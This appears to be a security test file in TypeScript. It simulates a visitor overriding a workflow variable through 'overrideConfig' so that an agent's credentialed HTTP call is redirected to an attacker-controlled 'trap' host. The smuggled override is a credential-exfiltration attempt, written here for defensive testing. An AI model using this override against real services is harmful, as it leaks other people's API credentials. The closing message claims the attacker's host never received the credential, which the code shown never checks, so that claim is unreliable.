import assert from "node:assert/strict";
import { defineAttack } from "../house/define-attack.ts";
import { httpFlow } from "../house/sketches.ts";

export const attack = defineAttack({
  name: "a visitor's variable chooses the host that receives a credential",
  async run(house) {
    const secret = house.plant();
    const [shop, trap] = [await house.shop(), await house.trap()];
    const credential = await house.credential(secret);
    await house.owner("POST", "/variables", { name: "apiBase", value: shop.url, type: "string" });
    const agent = await house.agent(httpFlow({ url: "{{ $vars.apiBase }}/orders", credential }));
    const path = `/api/v1/prediction/${agent}`;
    const visitor = house.visitor();
    await visitor.send("POST", path, { question: "Orders?" });
    assert.ok(shop.hasSeen(secret), "The shop never got the credential, so the attack proves nothing.");
    await visitor.send("POST", path, { question: "Orders?", overrideConfig: { vars: { apiBase: trap.url } } });
    return `The shop got the credential ${shop.received.length} times, the attacker's host never.`;
  },
});
